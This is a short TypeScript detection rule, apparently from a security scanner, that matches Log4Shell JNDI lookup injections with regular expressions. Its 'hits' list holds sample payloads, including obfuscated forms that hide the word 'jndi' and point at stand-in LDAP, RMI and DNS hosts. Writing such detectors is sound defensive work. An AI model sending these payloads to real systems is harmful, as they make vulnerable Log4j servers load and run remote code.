import { defineRule } from '../rule.ts';

/** Matches `${jndi:ldap://…}`, also if other lookups are used to hide the word (CVE-2021-44228). */
export const jndi = defineRule({
  id: 'log4shell/jndi',
  class: 'log4shell',
  threats: ['T2'],
  title: 'A lookup makes Log4j load code from elsewhere',
  score: 1,
  on: 'text',
  view: 'lookup',
  words: ['${'],
  patterns: [
    /\$\{\s{0,8}jndi\s{0,8}:/i,
    // These lookups reveal details of the machine; other lookups are common in settings.
    /\$\{\s{0,4}java:(?:version|runtime|vm|os|hw|locale)\s{0,4}\}/i,
    /\bjndi\s{0,4}:\s{0,4}(?:ldaps?|rmi|dns|iiop|corba|nis|nds|http)\s{0,4}:/i,
    /\$\{[^{}]{0,80}\$\{[^{}]{0,80}(?:ldaps?|rmi|dns|iiop)[^{}]{0,8}:\s{0,4}\/\//i,
  ],
  hits: [
    '${jndi:ldap://x.example/a}',
    '${${lower:j}ndi:rmi://x/a}',
    '${${::-j}${::-n}${::-d}${::-i}:dns://x}',
    '${j${k8s:k5:-ND}i:ldap://x/a}',
    '${java:os}',
  ],
  misses: ['Hello ${name}!', '${AWS::StackName}-bucket', '${env:HOME}', 'what is jndi?'],
});
